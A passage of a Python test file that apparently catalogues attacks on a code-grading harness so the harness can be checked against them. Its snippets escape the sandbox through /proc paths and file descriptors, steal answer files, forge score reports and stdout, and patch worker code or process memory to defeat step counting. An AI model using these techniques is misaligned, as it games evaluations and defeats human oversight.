        lambda: _os.open("/proc/self/cwd/" + "../" * 30 + rel, flags),
    ]
    for attempt in tries:
        try:
            return attempt()
        except BaseException:
            pass
        finally:
            try:
                _os.chdir(home)
            except OSError:
                pass
    return None
'''

attack("steal-dirfd-walk", "stealing the answers", BASIC, "loss", VIA_FDS + loss_with('''
seen = False
for _path in (@@REPO@@ + "/data/worked_values.toml", @@REPO@@ + "/solutions/linear_regression_basic.py"):
    _fd = _via_fds(_path, _os.O_RDONLY)
    if _fd is not None and _os.read(_fd, 10):
        seen = True
''', value=f"{STOLEN} if seen else (y_hat - y if y_hat > y else y - y_hat)"), B_LOSS)

attack("forge-dirfd-report", "forging the report", BASIC, "loss", VIA_FDS + loss_with('''
import threading
for _path in (@@OUT@@, @@OUTDIR@@ + "/results.json", @@OUTDIR@@ + "/forged.json"):
    _fd = _via_fds(_path, _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC)
    if _fd is not None:
        _os.write(_fd, @@FORGED@@.encode())
        _os.close(_fd)
'''), B_LOSS)

attack("forge-proc-stdout", "forging the report", BASIC, "loss", VIA_FDS + loss_with('''
for _n in (1, 2):
    _fd = _via_fds(f"/proc/{_os.getppid()}/fd/{_n}", _os.O_WRONLY)
    if _fd is not None:
        _os.write(_fd, b"\\ngdkit: score 100/100, report written to FORGED\\n")
'''), B_LOSS)

attack("style-patch-next-worker", "patching at import", NUMPY, "predict", VIA_FDS + '''
import os

def _patch_next_worker():
    """Rewrite the stage's worker code (the next worker runs it) so that it counts no steps."""
    stage = os.path.dirname(os.getcwd())
    done = False
    for name in ("loop.py", "core.py"):
        path = os.path.join(stage, "gdkit_worker", name)
        try:
            with open(path) as f:
                source = f.read()
        except OSError:
            continue
        patched = source.replace("_settrace(tracer)", "pass")
        fd = _via_fds(path, os.O_WRONLY | os.O_TRUNC)
        if fd is not None and patched != source:
            os.write(fd, patched.encode())
            os.close(fd)
            done = True
    return done

def predict(x, theta):
    marker = os.path.join(os.environ.get("TMPDIR", "/tmp"), "patched")
    if not os.path.exists(marker) and _patch_next_worker():
        open(marker, "w").close()
        os._exit(0)   # this call crashes; the next worker runs the patched code
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("style-proc-mem", "patching at import", NUMPY, "predict", VIA_FDS + '''
import sys

def _rewind_counter():
    """Zero the step counter (an itertools.count bound in the tracer's defaults) through
    /proc/self/mem: its count is the first word after the object header."""
    tracer = sys.gettrace()
    if tracer is None or not tracer.__defaults__:
        return
    counter = tracer.__defaults__[0].__self__
    fd = _via_fds("/proc/self/mem", _os.O_RDWR)
    if fd is not None:
        _os.pwrite(fd, (0).to_bytes(8, "little"), id(counter) + 16)
        _os.close(fd)

def predict(x, theta):
    total = 0.0
    for i in range(len(x)):
        total += x[i] * theta[i]
    _rewind_counter()
    return total
''', N_PREDICT_LOOP, only=STYLE)

attack("write-next-worker-code", "patching at import", BASIC, "loss", VIA_FDS + loss_with('''
import os
_stage = os.path.dirname(os.getcwd())
for _name in ("__main__.py", "loop.py", "wire.py", "core.py"):
    _fd = _via_fds(os.path.join(_stage, "gdkit_worker", _name), os.O_WRONLY | os.O_APPEND)
    if _fd is not None:
        os.write(_fd, b"\\nimport os; os._exit(0)\\n")
        os.close(_fd)
'''), B_LOSS)

BY_ID = {a.id: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS), "two attacks share an id"
